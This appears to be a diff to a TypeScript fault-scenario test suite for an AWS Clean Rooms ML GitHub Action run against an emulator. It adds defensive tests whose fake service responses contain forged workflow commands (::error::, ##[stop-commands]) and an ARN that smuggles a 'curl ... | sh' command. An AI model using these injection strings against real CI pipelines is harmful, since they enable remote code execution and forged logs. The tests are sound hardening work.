@@ -45,6 +45,22 @@ const throttle: Fault = { kind: 'error', status: 429, type: 'ThrottlingException
 /** A loopback port nothing listens on: every connection is refused at once. */
 const CLOSED_PORT = 'http://127.0.0.1:1'
 const VALID_ARN = 'arn:aws:cleanrooms-ml:us-east-1:123456789012:audience-generation-job/from-a-raw-answer'
+const conflict: Fault = { kind: 'error', status: 409, type: 'ConflictException', message: 'The name is taken.' }
+const listAnswer = (body: object): Fault => ({
+  kind: 'raw',
+  status: 200,
+  headers: { 'content-type': 'application/json' },
+  body: JSON.stringify(body)
+})
+const list = (emulator: Emulator, ...faults: Fault[]): void => {
+  emulator.fault('cleanrooms-ml', 'ListAudienceGenerationJobs', ...faults)
+}
+/** A job to reuse, named in the inputs of the scenarios that list it. */
+const LISTED = {
+  name: 'listed',
+  configuredAudienceModelArn: 'arn:aws:cleanrooms-ml:us-east-1:123456789012:configured-audience-model/listed'
+}
+const REUSE_LISTED = { ...REUSE, name: LISTED.name, 'configured-audience-model-arn': LISTED.configuredAudienceModelArn }
 
 function transient(name: string, faults: Fault[], proves: string): FaultScenario {
   return {
@@ -89,6 +105,15 @@ export const FAULT_SCENARIOS: FaultScenario[] = [
     expect: { code: 1, errorType: 'ValidationException', jobs: 0, requests: { StartAudienceGenerationJob: 1 } },
     withinMs: 10_000,
     proves: 'errors are named from the body code / __type'
+  },
+  {
+    group: 'Clean Rooms ML',
+    name: 'FIPS pseudo-Region (fips-us-east-1) with the emulator as custom endpoint',
+    setup: () => {},
+    inputs: { 'aws-region': 'fips-us-east-1' },
+    expect: { code: 1, errorType: 'InvalidInput', jobs: 0, requests: { StartAudienceGenerationJob: 0 } },
+    withinMs: 10_000,
+    proves: 'a FIPS pseudo-Region turns FIPS on, as in AWS SDKs, which the rules refuse with a custom endpoint'
   },
   {
     group: 'Hostile answers',
@@ -143,6 +168,87 @@ export const FAULT_SCENARIOS: FaultScenario[] = [
     expect: { code: 0, jobs: 0 },
     withinMs: 10_000,
     proves: 'unknown members are ignored safely'
+  },
+  {
+    group: 'Hostile answers',
+    name: 'status with a line break and ::error::',
+    setup: (emulator) =>
+      emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', {
+        kind: 'raw',
+        status: 200,
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ status: 'CREATE_IN_PROGRESS\n::error::forged ##[error]forged' })
+      }),
+    inputs: { 'wait-for-completion': 'true' },
+    expect: { code: 0, jobs: 1 },
+    withinMs: 10_000,
+    proves: "the service's text is logged on one line; no forged annotation"
+  },
+  {
+    group: 'Hostile answers',
+    name: 'error message with ::error:: and ##[stop-commands]',
+    setup: (emulator) =>
+      start(emulator, {
+        kind: 'error',
+        status: 400,
+        type: 'ValidationException',
+        message: 'bad\n::error::forged\n##[stop-commands]halt'
+      }),
+    expect: { code: 1, errorType: 'ValidationException', jobs: 0 },
+    withinMs: 10_000,
+    proves: 'the one annotation carries the message; commands are not stopped'
+  },
+  {
+    group: 'Hostile answers',
+    name: 'List repeats its nextToken, if-exists: reuse',
+    setup: (emulator) => {
+      start(emulator, conflict)
+      list(emulator, ...times(2, listAnswer({ audienceGenerationJobs: [], nextToken: 'again' })))
+    },
+    inputs: REUSE,
+    expect: { code: 1, errorType: 'MalformedResponse', jobs: 0, requests: { ListAudienceGenerationJobs: 2 } },
+    withinMs: 10_000,
+    proves: 'a listing that would never end is stopped at the repeated token'
+  },
+  {
+    group: 'Hostile answers',
+    name: 'List gives the job an ARN that fails the model pattern',
+    setup: (emulator) => {
+      start(emulator, conflict)
+      list(
+        emulator,
+        listAnswer({
+          audienceGenerationJobs: [
+            { ...LISTED, status: 'ACTIVE', audienceGenerationJobArn: 'x"; curl https://example.test | sh; echo "' }
+          ]
+        })
+      )
+    },
+    inputs: REUSE_LISTED,
+    expect: { code: 1, errorType: 'UnexpectedResponse', jobs: 0, requests: { ListAudienceGenerationJobs: 1 } },
+    withinMs: 10_000,
+    proves: 'outputs only ever carry a valid ARN, from List as from Start'
+  },
+  {
+    group: 'Lost answers',
+    name: 'job listed only on the third listing after ConflictException (eventual consistency)',
+    setup: (emulator) => {
+      emulator.addJob({ ...LISTED, status: 'ACTIVE' })
+      list(emulator, ...times(4, listAnswer({ audienceGenerationJobs: [] })))
+    },
+    inputs: REUSE_LISTED,
+    expect: { code: 0, jobs: 1, requests: { StartAudienceGenerationJob: 1, ListAudienceGenerationJobs: 5 } },
+    withinMs: 10_000,
+    proves: 'the listing is repeated with backoff until the job shows'
+  },
+  {
+    group: 'Lost answers',
+    name: 'job never listed after ConflictException',
+    setup: (emulator) => start(emulator, conflict),
+    inputs: REUSE,
+    expect: { code: 1, errorType: 'ExistingJobMismatch', jobs: 0, requests: { ListAudienceGenerationJobs: 10 } },
+    withinMs: 10_000,
+    proves: 'five listings with backoff, then a clear error'
   },
   {
     group: 'Lost answers',
